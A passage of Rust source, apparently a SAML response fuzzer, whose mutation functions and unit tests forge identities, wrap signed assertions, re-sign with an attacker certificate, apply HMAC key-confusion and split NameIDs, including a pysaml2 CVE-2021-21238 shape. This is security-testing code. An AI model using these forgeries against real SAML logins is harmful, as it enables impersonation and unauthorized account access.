            let value = tail.replace('%', "&#37;").replace('"', "&#34;");
            edits.push(insert(
                root.range().start,
                format!("<!DOCTYPE {name} [<!ENTITY fz \"{value}\">]>"),
            ));
            format!("{head}&fz;")
        }
    };
    let swap = Swap {
        genuine: vec![value.trim().to_owned()],
        forged: vec![head.trim().to_owned()],
        ..Swap::default()
    };
    edits.push((text.range(), split));
    Ok((try_splice(doc.src, edits)?, swap))
}

fn self_sign(xml: &str) -> Outcome {
    let cert = crate::crypto::attacker_cert(None)?;
    let key_info = crate::crypto::key_info_x509(&cert)?;
    let signed = crate::crypto::resign(xml, crate::crypto::attacker_key()?, Some(&key_info))?;
    Ok((signed, Swap::default()))
}

/// The digest of what the first Reference points at, as the document now is.
fn current_digest(doc: &Doc) -> Result<String, Skip> {
    let reference = doc
        .tree
        .descendants()
        .find(|n| n.has_tag_name((DSIG_NS, "Reference")))
        .ok_or_else(|| Skip::NotApplicable("no Reference".into()))?;
    let id = reference
        .attribute("URI")
        .and_then(|u| u.strip_prefix('#'))
        .ok_or_else(|| Skip::NotApplicable("the Reference names no #ID".into()))?;
    let method = reference
        .children()
        .find(|n| n.has_tag_name((DSIG_NS, "DigestMethod")))
        .and_then(|n| n.attribute("Algorithm"))
        .map_or(
            openssl::hash::MessageDigest::sha256(),
            crate::crypto::digest_method,
        );
    crate::crypto::reference_digest(doc.src, id, method)
}

/// The text range of the first `ds:` element called `name`.
fn text_range(doc: &Doc, name: &str) -> Result<std::ops::Range<usize>, Skip> {
    let node = doc
        .tree
        .descendants()
        .find(|n| n.has_tag_name((DSIG_NS, name)))
        .ok_or_else(|| Skip::NotApplicable(format!("no {name}")))?;
    let (start, end) = (
        after_start_tag(doc.src, node),
        before_end_tag(doc.src, node),
    );
    if start > end {
        return Err(Skip::NotApplicable(format!(
            "{name} is an empty-element tag"
        )));
    }
    Ok(start..end)
}

fn redigest(xml: &str, into: DigestPlacement) -> Outcome {
    let doc = Doc::parse(xml)?;
    let digest = current_digest(&doc)?;
    let value = text_range(&doc, "DigestValue")?;
    let edit = match into {
        DigestPlacement::Replace => (value, digest),
        DigestPlacement::CommentFirst => insert(value.start, format!("<!--{digest}-->")),
        DigestPlacement::StatusDetail => {
            let status = resolve(&doc, Target::Status).ok_or_else(|| missing(Target::Status))?;
            let uri = doc
                .tree
                .descendants()
                .find(|n| n.has_tag_name((DSIG_NS, "Reference")))
                .and_then(|r| r.attribute("URI"))
                .unwrap_or_default();
            insert(
                before_end_tag(xml, status),
                format!(
                    "<samlp:StatusDetail xmlns:samlp=\"{PROTOCOL_NS}\"><ds:Reference xmlns:ds=\"{DSIG_NS}\" URI=\"{}\"><ds:DigestValue>{digest}</ds:DigestValue></ds:Reference></samlp:StatusDetail>",
                    bytes::escape(uri)
                ),
            )
        }
    };
    Ok((try_splice(xml, vec![edit])?, Swap::default()))
}

fn switch_algorithm(xml: &str, to: Algorithm) -> Outcome {
    let doc = Doc::parse(xml)?;
    let method = doc
        .tree
        .descendants()
        .find(|n| n.has_tag_name((DSIG_NS, "SignatureMethod")))
        .and_then(|m| bytes::attr_value(m, "Algorithm"))
        .ok_or_else(|| Skip::NotApplicable("no SignatureMethod".into()))?;
    let edits = vec![
        (method, to.uri().to_owned()),
        (text_range(&doc, "DigestValue")?, current_digest(&doc)?),
    ];
    Ok((try_splice(xml, edits)?, Swap::default()))
}

/// HMAC-SHA256 over the first SignedInfo, keyed with the PEM of the document's certificate.
fn hmac_sign(xml: &str) -> Outcome {
    use base64::Engine as _;
    const HMAC_SHA256: &str = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256";
    let doc = Doc::parse(xml)?;
    let cert = crate::crypto::seed_certificate(&doc)?;
    let method = doc
        .tree
        .descendants()
        .find(|n| n.has_tag_name((DSIG_NS, "SignatureMethod")))
        .and_then(|m| bytes::attr_value(m, "Algorithm"))
        .ok_or_else(|| Skip::NotApplicable("no SignatureMethod".into()))?;
    let mut edits = vec![
        (method, HMAC_SHA256.to_owned()),
        (text_range(&doc, "DigestValue")?, current_digest(&doc)?),
    ];
    let signature = doc
        .tree
        .descendants()
        .find(|n| n.has_tag_name((DSIG_NS, "Signature")))
        .ok_or_else(|| Skip::NotApplicable("no Signature".into()))?;
    if let Some(key_info) = bytes::child(signature, DSIG_NS, "KeyInfo") {
        edits.push((key_info.range(), String::new()));
    }
    let xml = try_splice(xml, edits)?;
    let pem = cert
        .to_pem()
        .map_err(|e| Skip::Failed(format!("cannot encode the certificate: {e}")))?;
    let mac = crate::crypto::hmac(
        openssl::hash::MessageDigest::sha256(),
        &pem,
        crate::crypto::signed_info_c14n(&xml, 0)?.as_bytes(),
    )?;
    let doc = Doc::parse(&xml)?;
    let value = text_range(&doc, "SignatureValue")?;
    let encoded = base64::engine::general_purpose::STANDARD.encode(mac);
    Ok((try_splice(&xml, vec![(value, encoded)])?, Swap::default()))
}

fn bytes_edit(xml: &str, kind: ByteEdit) -> String {
    match kind {
        ByteEdit::Bom => format!("\u{feff}{xml}"),
        ByteEdit::LeadingWhitespace => format!("\n {xml}"),
        ByteEdit::TrailingComment => format!("{xml}<!---->"),
        ByteEdit::TrailingText => format!("{xml}fz"),
    }
}

/// The kinds of edit, as `--only` names them (the `edit` tag of a chain's JSON).
pub const KINDS: [&str; 14] = [
    "forge-identity",
    "copy",
    "move",
    "wrap",
    "remove",
    "self-sign",
    "hmac-sign",
    "algorithm",
    "redigest",
    "split-identity",
    "attribute",
    "reprefix",
    "doctype",
    "bytes",
];

impl Mutation {
    /// This edit's kind, one of [`KINDS`].
    pub fn kind(&self) -> &'static str {
        match self {
            Mutation::ForgeIdentity { .. } => "forge-identity",
            Mutation::Copy { .. } => "copy",
            Mutation::Move { .. } => "move",
            Mutation::Wrap { .. } => "wrap",
            Mutation::Remove { .. } => "remove",
            Mutation::SelfSign => "self-sign",
            Mutation::HmacSign => "hmac-sign",
            Mutation::Algorithm { .. } => "algorithm",
            Mutation::Redigest { .. } => "redigest",
            Mutation::SplitIdentity { .. } => "split-identity",
            Mutation::Attribute { .. } => "attribute",
            Mutation::Reprefix { .. } => "reprefix",
            Mutation::Doctype { .. } => "doctype",
            Mutation::Bytes { .. } => "bytes",
        }
    }
}

/// Draws chains from a seeded generator: the same seed gives the same chains.
#[derive(Clone)]
pub struct Generator {
    rng: fastrand::Rng,
    only: Vec<&'static str>,
}

const STRUCTURAL: [Target; 14] = [
    Target::Response,
    Target::Assertion,
    Target::LastAssertion,
    Target::AssertionSignature,
    Target::ResponseSignature,
    Target::Subject,
    Target::NameId,
    Target::Issuer,
    Target::Conditions,
    Target::AttributeStatement,
    Target::SignedInfo,
    Target::DigestValue,
    Target::KeyInfo,
    Target::Status,
];

impl Generator {
    /// A generator seeded with `seed`.
    pub fn new(seed: u64) -> Self {
        Generator {
            rng: fastrand::Rng::with_seed(seed),
            only: Vec::new(),
        }
    }

    /// The same generator drawing only edits of these kinds (all when empty); unknown
    /// names are the caller's to refuse (see [`KINDS`]).
    pub fn only(mut self, kinds: &[&str]) -> Self {
        self.only = KINDS
            .iter()
            .copied()
            .filter(|k| kinds.contains(k))
            .collect();
        self
    }

    fn pick<T: Copy>(&mut self, from: &[T]) -> T {
        from[self.rng.usize(..from.len())]
    }

    /// Elements a forged copy is made of: the ones that carry identity, mostly the Assertion.
    fn forgeable(&mut self) -> Target {
        self.pick(&[
            Target::Assertion,
            Target::Assertion,
            Target::Assertion,
            Target::Assertion,
            Target::LastAssertion,
            Target::Response,
            Target::Subject,
            Target::Subject,
            Target::NameId,
            Target::AttributeStatement,
        ])
    }

    /// Elements worth copying verbatim, moving or wrapping: mostly the signed ones.
    fn carried(&mut self) -> Target {
        self.pick(&[
            Target::Assertion,
            Target::Assertion,
            Target::Assertion,
            Target::LastAssertion,
            Target::Response,
            Target::Response,
            Target::AssertionSignature,
            Target::ResponseSignature,
            Target::Subject,
            Target::NameId,
            Target::AttributeStatement,
            Target::SignedInfo,
            Target::DigestValue,
        ])
    }

    fn place(&mut self) -> Place {
        self.pick(&[
            Place::Before,
            Place::After,
            Place::FirstChild,
            Place::LastChild,
        ])
    }

    fn wrapper(&mut self) -> Wrapper {
        self.pick(&[
            Wrapper::Extensions,
            Wrapper::Advice,
            Wrapper::Object,
            Wrapper::Unknown,
            Wrapper::Signature,
        ])
    }

    /// One edit, of a kind `only` allows.
    pub fn mutation(&mut self) -> Mutation {
        loop {
            let m = self.any_mutation();
            if self.only.is_empty() || self.only.contains(&m.kind()) {
                return m;
            }
        }
    }

    fn any_mutation(&mut self) -> Mutation {
        match self.rng.u32(..104) {
            0..=29 => {
                let forged = self.rng.u32(..4) != 0;
                let what = if forged {
                    self.forgeable()
                } else {
                    self.carried()
                };
                Mutation::Copy {
                    what,
                    forged,
                    id: self.pick(&[
                        IdChange::Keep,
                        IdChange::Fresh,
                        IdChange::CaseVariant,
                        IdChange::Namespaced,
                        IdChange::Remove,
                    ]),
                    place: self.pick(&[
                        Place::Before,
                        Place::After,
                        Place::FirstChild,
                        Place::LastChild,
                        Place::Around,
                    ]),
                    anchor: self.anchor(what),
                    outer: match self.rng.u32(..7) {
                        0 => Outer::Wrapped(self.wrapper()),
                        1 => Outer::ForeignNamespace,
                        2 => Outer::Signed,
                        _ => Outer::Same,
                    },
                }
            }
            30..=39 => Mutation::ForgeIdentity {
                within: self.pick(&[
                    Target::Response,
                    Target::Assertion,
                    Target::LastAssertion,
                    Target::Subject,
                    Target::NameId,
                    Target::AttributeStatement,
                ]),
            },
            40..=46 => Mutation::Redigest {
                into: self.pick(&[
                    DigestPlacement::Replace,
                    DigestPlacement::CommentFirst,
                    DigestPlacement::StatusDetail,
                ]),
            },
            47..=54 => {
                let what = self.carried();
                Mutation::Move {
                    what,
                    place: self.place(),
                    anchor: self.anchor(what),
                }
            }
            55..=60 => Mutation::Wrap {
                what: self.carried(),
                wrapper: self.wrapper(),
            },
            61..=66 => Mutation::Remove {
                what: self.pick(&STRUCTURAL),
            },
            67..=68 => Mutation::SelfSign,
            69..=70 => Mutation::HmacSign,
            71..=72 => Mutation::Algorithm {
                to: self.pick(&[
                    Algorithm::DsaSha1,
                    Algorithm::EcdsaSha256,
                    Algorithm::RsaSha1,
                ]),
            },
            73..=80 => Mutation::SplitIdentity {
                with: self.pick(&[
                    Splitter::Comment,
                    Splitter::ProcessingInstruction,
                    Splitter::Cdata,
                    Splitter::CharacterReference,
                    Splitter::Entity,
                ]),
            },
            81..=88 => Mutation::Attribute {
                on: self.carried(),
                attribute: self.pick(&[
                    ExtraAttribute::DuplicateId,
                    ExtraAttribute::NamespacedId,
                    ExtraAttribute::XmlId,
                    ExtraAttribute::LowercaseId,
                    ExtraAttribute::XmlXmlns,
                ]),
            },
            89..=92 => Mutation::Reprefix {
                // Mostly the identity a prefix-matching reader looks for.
                on: self.pick(&[
                    Target::NameId,
                    Target::NameId,
                    Target::Subject,
                    Target::Assertion,
                    Target::Response,
                    Target::Issuer,
                    Target::AttributeStatement,
                    Target::AssertionSignature,
                ]),
            },
            93..=98 => Mutation::Doctype {
                kind: self.pick(&[
                    DoctypeKind::Empty,
                    DoctypeKind::AttlistId,
                    DoctypeKind::UnusedEntity,
                ]),
            },
            _ => Mutation::Bytes {
                kind: self.pick(&[
                    ByteEdit::Bom,
                    ByteEdit::LeadingWhitespace,
                    ByteEdit::TrailingComment,
                    ByteEdit::TrailingText,
                ]),
            },
        }
    }

    /// Half the time the element itself (a copy or move next to the original, the classic
    /// wrapping shapes), else any element.
    fn anchor(&mut self, what: Target) -> Target {
        if self.rng.bool() {
            what
        } else {
            self.pick(&STRUCTURAL)
        }
    }

    /// One chain of 1–4 edits. Edits that break well-formedness go last, so the structural
    /// ones before them still find their elements; re-signing goes after the edits it covers.
    pub fn chain(&mut self) -> Chain {
        // Entra signs the assertion by default; short chains are the ones that stay readable.
        let seed = self.pick(&[
            SeedSigning::Assertion,
            SeedSigning::Assertion,
            SeedSigning::Assertion,
            SeedSigning::Assertion,
            SeedSigning::Response,
            SeedSigning::Both,
        ]);
        let n = self.pick(&[1, 1, 1, 1, 2, 2, 2, 3, 3, 4]);
        let mut edits: Vec<Mutation> = (0..n).map(|_| self.mutation()).collect();
        order(&mut edits);
        Chain { seed, edits }
    }

    /// A number below `n` (at least 1), for callers choosing among their own things.
    pub fn index(&mut self, n: usize) -> usize {
        self.rng.usize(..n.max(1))
    }

    /// `parent` grown by one edit (up to [`MAX_EDITS`]), or with one edit redrawn.
    pub fn extend(&mut self, parent: &Chain) -> Chain {
        let mut edits = parent.edits.clone();
        let new = self.mutation();
        if edits.len() < MAX_EDITS && self.rng.bool() {
            let at = self.rng.usize(..=edits.len());
            edits.insert(at, new);
        } else if !edits.is_empty() {
            let at = self.rng.usize(..edits.len());
            edits[at] = new;
        } else {
            edits.push(new);
        }
        order(&mut edits);
        Chain {
            seed: parent.seed,
            edits,
        }
    }
}

/// The most edits a grown chain has.
pub const MAX_EDITS: usize = 6;

/// Puts edits that break well-formedness last, so the structural ones before them still find
/// their elements, and re-signing after the edits it covers.
fn order(edits: &mut [Mutation]) {
    edits.sort_by_key(|m| match m {
        Mutation::Redigest { .. } | Mutation::Algorithm { .. } => 1,
        Mutation::SelfSign | Mutation::HmacSign => 2,
        Mutation::Doctype { .. }
        | Mutation::Bytes { .. }
        | Mutation::SplitIdentity {
            with: Splitter::Entity,
        } => 3,
        Mutation::Attribute {
            attribute: ExtraAttribute::DuplicateId | ExtraAttribute::XmlXmlns,
            ..
        } => 3,
        _ => 0,
    });
}

#[cfg(test)]
mod tests {
    use super::*;

    const SEED: &str = r##"<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r"><Issuer xmlns="urn:oasis:names:tc:SAML:2.0:assertion">https://sts/</Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status><Assertion xmlns="urn:oasis:names:tc:SAML:2.0:assertion" ID="_a"><Issuer>https://sts/</Issuer><Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo><Reference URI="#_a"><DigestValue>d</DigestValue></Reference></SignedInfo></Signature><Subject><NameID>b.simon@contoso.com</NameID></Subject></Assertion></samlp:Response>"##;

    /// A forged copy of the Assertion with a fresh ID, at `place` relative to the Assertion.
    fn forged_assertion_copy(place: Place, outer: Outer) -> Chain {
        Chain {
            seed: SeedSigning::Assertion,
            edits: vec![Mutation::Copy {
                what: Target::Assertion,
                forged: true,
                id: IdChange::Fresh,
                place,
                anchor: Target::Assertion,
                outer,
            }],
        }
    }

    #[test]
    fn a_forged_copy_before_the_signed_assertion_is_classic_wrapping() {
        let applied = forged_assertion_copy(Place::Before, Outer::Same).apply(SEED);
        assert_eq!(applied.took_effect, [true]);
        assert_eq!(applied.swap.forged, ["admin@contoso.com"]);
        let doc = Doc::parse(&applied.xml).unwrap();
        let first = resolve(&doc, Target::Assertion).unwrap();
        assert_eq!(first.attribute("ID"), Some("_a-fz"));
        assert!(bytes::signature_of(first).is_none());
        let last = resolve(&doc, Target::LastAssertion).unwrap();
        assert_eq!(last.attribute("ID"), Some("_a"));
        assert!(!applied.spec_invalid);
    }

    #[test]
    fn edits_that_find_nothing_take_no_effect() {
        let chain = Chain {
            seed: SeedSigning::Assertion,
            edits: vec![
                Mutation::Remove {
                    what: Target::ResponseSignature,
                },
                Mutation::Bytes {
                    kind: ByteEdit::TrailingText,
                },
                Mutation::ForgeIdentity {
                    within: Target::Assertion,
                },
            ],
        };
        let applied = chain.apply(SEED);
        // No Response signature; after the trailing text nothing parses any more.
        assert_eq!(applied.took_effect, [false, true, false]);
        assert!(applied.swap.forged.is_empty());
        assert!(applied.spec_invalid);
    }

    #[test]
    fn a_split_name_id_names_what_a_first_text_node_reader_sees() {
        let (xml, swap) = Mutation::SplitIdentity {
            with: Splitter::Comment,
        }
        .apply(SEED)
        .unwrap();
        assert!(
            xml.contains("<NameID>b.simon<!---->@contoso.com</NameID>"),
            "{xml}"
        );
        assert_eq!(swap.forged, ["b.simon"]);
        assert_eq!(swap.genuine, ["b.simon@contoso.com"]);
    }

    #[test]
    fn invalid_means_not_well_formed_or_a_dtd() {
        assert!(!spec_invalid(SEED));
        assert!(!spec_invalid(&format!("\u{feff}\n {SEED}")));
        assert!(spec_invalid(&format!("\n<?xml version=\"1.0\"?>{SEED}")));
        assert!(spec_invalid(&format!("<!DOCTYPE r>{SEED}")));
        assert!(spec_invalid(&format!("{SEED}{SEED}")));
        assert!(spec_invalid(&SEED.replace("<Subject>", "<x:Subject>")));
    }

    #[test]
    fn a_split_never_names_an_identity_the_response_carries() {
        let with_display_name = SEED.replace(
            "</Subject>",
            "</Subject><AttributeStatement><Attribute Name=\"http://schemas.microsoft.com/identity/claims/displayname\"><AttributeValue>b.simon</AttributeValue></Attribute></AttributeStatement>",
        );
        let (xml, swap) = Mutation::SplitIdentity {
            with: Splitter::Cdata,
        }
        .apply(&with_display_name)
        .unwrap();
        assert!(xml.contains("<NameID>b.simon@c<![CDATA["), "{xml}");
        assert_eq!(swap.forged, ["b.simon@c"]);
    }

    fn copy(what: Target, place: Place, anchor: Target, outer: Outer) -> Mutation {
        Mutation::Copy {
            what,
            forged: true,
            id: IdChange::Fresh,
            place,
            anchor,
            outer,
        }
    }

    #[test]
    fn a_forged_copy_can_be_wrapped_or_moved_to_a_foreign_namespace() {
        let wrapped = copy(
            Target::Subject,
            Place::LastChild,
            Target::AssertionSignature,
            Outer::Wrapped(Wrapper::Signature),
        );
        let (xml, swap) = wrapped.apply(SEED).unwrap();
        assert!(
            // Inside the Signature's default namespace the copy still is a saml:Subject.
            xml.contains("<ds:Signature xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"><Subject xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\" xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"><NameID>admin@contoso.com</NameID></Subject></ds:Signature></Signature>"),
            "{xml}"
        );
        assert_eq!(swap.forged, ["admin@contoso.com"]);
        let foreign = copy(
            Target::Assertion,
            Place::Before,
            Target::Assertion,
            Outer::ForeignNamespace,
        );
        let (xml, _) = foreign.apply(SEED).unwrap();
        assert!(
            xml.contains("<fzn:Assertion xmlns:fzn=\"urn:fuzz:foreign\" xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\" ID=\"_a-fz\">"),
            "{xml}"
        );
        assert!(
            xml.contains("</Subject></fzn:Assertion><Assertion"),
            "{xml}"
        );
        // A namespaced ID on a foreign copy: two prefixes, still well-formed.
        let both = Mutation::Copy {
            what: Target::Assertion,
            forged: true,
            id: IdChange::Namespaced,
            place: Place::Before,
            anchor: Target::Assertion,
            outer: Outer::ForeignNamespace,
        };
        let (xml, _) = both.apply(SEED).unwrap();
        assert!(!spec_invalid(&xml), "{xml}");
        // Around with a wrapper would nest the original in the wrapper, not the copy.
        let wrapped_around = copy(
            Target::Assertion,
            Place::Around,
            Target::Assertion,
            Outer::Wrapped(Wrapper::Advice),
        );
        assert!(wrapped_around.apply(SEED).is_err());
        assert!(!spec_invalid(&xml));
    }

    #[test]
    fn a_copy_around_its_original_holds_it_last() {
        let around = copy(
            Target::Assertion,
            Place::Around,
            Target::Assertion,
            Outer::Same,
        );
        let (xml, _) = around.apply(SEED).unwrap();
        let doc = Doc::parse(&xml).unwrap();
        let outer = resolve(&doc, Target::Assertion).unwrap();
        let inner = resolve(&doc, Target::LastAssertion).unwrap();
        assert_eq!(outer.attribute("ID"), Some("_a-fz"));
        assert_eq!(inner.attribute("ID"), Some("_a"));
        assert_eq!(inner.parent(), Some(outer));
        // A move cannot go around anything.
        let m = Mutation::Move {
            what: Target::Subject,
            place: Place::Around,
            anchor: Target::Issuer,
        };
        assert!(m.apply(SEED).is_err());
    }

    #[test]
    fn an_entity_split_declares_the_rest_in_a_dtd() {
        let (xml, swap) = Mutation::SplitIdentity {
            with: Splitter::Entity,
        }
        .apply(SEED)
        .unwrap();
        assert!(
            xml.starts_with(
                "<!DOCTYPE samlp:Response [<!ENTITY fz \"@contoso.com\">]><samlp:Response"
            ),
            "{xml}"
        );
        assert!(xml.contains("<NameID>b.simon&fz;</NameID>"), "{xml}");
        assert_eq!(swap.forged, ["b.simon"]);
        assert!(spec_invalid(&xml));
        // One DTD only: a second entity split does not apply.
        let again = Mutation::SplitIdentity {
            with: Splitter::Entity,
        };
        assert!(again.apply(&xml).is_err());
    }

    #[test]
    fn claiming_an_algorithm_recomputes_the_digest_and_keeps_the_value() {
        let seed = SEED.replace(
            "<SignedInfo>",
            "<SignedInfo><SignatureMethod Algorithm=\"http://www.w3.org/2001/04/xmldsig-more#rsa-sha256\"/>",
        )
        .replace("</SignedInfo>", "</SignedInfo><SignatureValue>v</SignatureValue>");
        let (xml, _) = Mutation::Algorithm {
            to: Algorithm::DsaSha1,
        }
        .apply(&seed)
        .unwrap();
        assert!(
            xml.contains("Algorithm=\"http://www.w3.org/2000/09/xmldsig#dsa-sha1\""),
            "{xml}"
        );
        assert!(xml.contains("<SignatureValue>v</SignatureValue>"), "{xml}");
        assert!(!xml.contains("<DigestValue>d</DigestValue>"), "{xml}");
    }

    #[test]
    fn a_generator_told_only_some_kinds_draws_only_those() {
        let mut g = Generator::new(3).only(&["split-identity", "bytes"]);
        for _ in 0..200 {
            let chain = g.chain();
            assert!(chain
                .edits
                .iter()
                .all(|m| ["split-identity", "bytes"].contains(&m.kind())));
            // The kind is the edit's JSON tag.
            let json = serde_json::to_value(chain.edits[0]).unwrap();
            assert_eq!(json["edit"], chain.edits[0].kind());
        }
    }

    #[test]
    fn a_declaration_is_found_whatever_the_whitespace() {
        assert!(declares("<a\txmlns:x = 'u'>", "xmlns:x"));
        assert!(declares("<a\r\nxmlns=\"u\">", "xmlns"));
        assert!(!declares("<a xmlns:xy=\"u\">", "xmlns:x"));
        assert!(!declares("<a fooxmlns:x=\"u\">", "xmlns:x"));
    }

    #[test]
    fn a_signed_copy_around_the_assertion_holds_the_signed_one_before_its_own_signature() {
        // pysaml2's CVE-2021-21238 shape: a Signature naming the outer (forged) Assertion, and
        // the held original's Signature first in document order.
        let applied = forged_assertion_copy(Place::Around, Outer::Signed).apply(SEED);
        assert_eq!(applied.took_effect, [true]);
        assert_eq!(applied.swap.forged, ["admin@contoso.com"]);
        assert!(!applied.spec_invalid);
        let doc = Doc::parse(&applied.xml).unwrap();
        let outer = resolve(&doc, Target::Assertion).unwrap();
        assert_eq!(outer.attribute("ID"), Some("_a-fz"));
        let uri = |sig: Node| {
            sig.descendants()
                .find(|n| n.has_tag_name((DSIG_NS, "Reference")))
                .and_then(|r| r.attribute("URI"))
                .map(str::to_owned)
        };
        let own = bytes::signature_of(outer).unwrap();
        assert_eq!(uri(own).as_deref(), Some("#_a-fz"));
        let children: Vec<_> = outer.children().filter(|n| n.is_element()).collect();
        assert_eq!(children.last(), Some(&own));
        let held = children[children.len() - 2];
        assert_eq!(held.attribute("ID"), Some("_a"));
        let first = outer
            .descendants()
            .find(|n| n.has_tag_name((DSIG_NS, "Signature")))
            .unwrap();
        assert_eq!(uri(first).as_deref(), Some("#_a"));
        // A copy left with no plain ID has nothing to name.
        let unnamed = Mutation::Copy {
            what: Target::Assertion,
            forged: true,
            id: IdChange::Remove,
            place: Place::Before,
            anchor: Target::Assertion,
            outer: Outer::Signed,
        };
        assert!(unnamed.apply(SEED).is_err());
    }

    #[test]
    fn a_new_prefix_keeps_the_meaning_and_changes_the_name() {
        let m = Mutation::Reprefix { on: Target::NameId };
        let (xml, _) = m.apply(SEED).unwrap();
        assert!(xml.contains(&format!(
            "<saml2:NameID xmlns:saml2=\"{ASSERTION_NS}\">b.simon@contoso.com</saml2:NameID>"
        )));
        assert!(!spec_invalid(&xml));
        let doc = Doc::parse(&xml).unwrap();
        assert_eq!(
            resolve(&doc, Target::NameId).unwrap().text(),
            Some("b.simon@contoso.com")
        );
        // Again: the prefix it now has is skipped for the next one; a third time, the one
        // still declared on it is too (declared twice, it would not be well-formed).
        let (again, _) = m.apply(&xml).unwrap();
        assert!(again.contains("<saml:NameID xmlns:saml="), "{again}");
        assert!(m.apply(&again).is_err());
        // A prefix the content uses would be rebound: the next candidate, or none.
        let (root, _) = Mutation::Reprefix {
            on: Target::Response,
        }
        .apply(SEED)
        .unwrap();
        assert!(root.starts_with("<saml2p:Response xmlns:saml2p="));
        assert!(root.ends_with("</saml2p:Response>"));
        assert!(!spec_invalid(&root));
    }

    #[test]
    fn moving_an_element_into_itself_is_refused() {
        let m = Mutation::Move {
            what: Target::Assertion,
            place: Place::LastChild,
            anchor: Target::Subject,
        };
        assert!(m.apply(SEED).is_err());
    }

    #[test]
    fn chains_are_deterministic_and_round_trip_as_json_data() {
        let (mut a, mut b) = (Generator::new(7), Generator::new(7));
        for _ in 0..200 {
            let chain = a.chain();
            assert_eq!(chain, b.chain());
            assert!((1..=4).contains(&chain.edits.len()));
            let json = serde_json::to_string(&chain).unwrap();
            assert_eq!(serde_json::from_str::<Chain>(&json).unwrap(), chain);
            // Every drawn chain applies without panicking.
            let applied = chain.apply(SEED);
            assert_eq!(applied.took_effect.len(), chain.edits.len());
        }
    }
}
